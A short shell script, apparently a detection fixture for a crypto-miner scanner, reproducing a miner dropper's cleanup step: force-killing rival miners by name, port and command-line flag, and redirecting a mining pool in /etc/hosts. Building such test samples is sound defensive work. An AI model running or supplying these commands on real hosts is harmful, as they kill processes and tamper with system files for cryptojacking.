#!/bin/sh
# SYNTHETIC minerscan fixture: inert text, never executed.
# A dropper's first step: clear the host of whatever mined here before.
for p in kdevtmpfsi kinsing xmrig; do pkill -9 -f $p; done
ps aux | grep -v grep | grep -- '--donate-level' | awk '{print $2}' | xargs -r kill -9
netstat -antp | grep ':3333\|:5555\|:7777' | awk '{print $7}' | cut -d/ -f1 | xargs -r kill -9
echo "0.0.0.0 pool.supportxmr.com" >> /etc/hosts
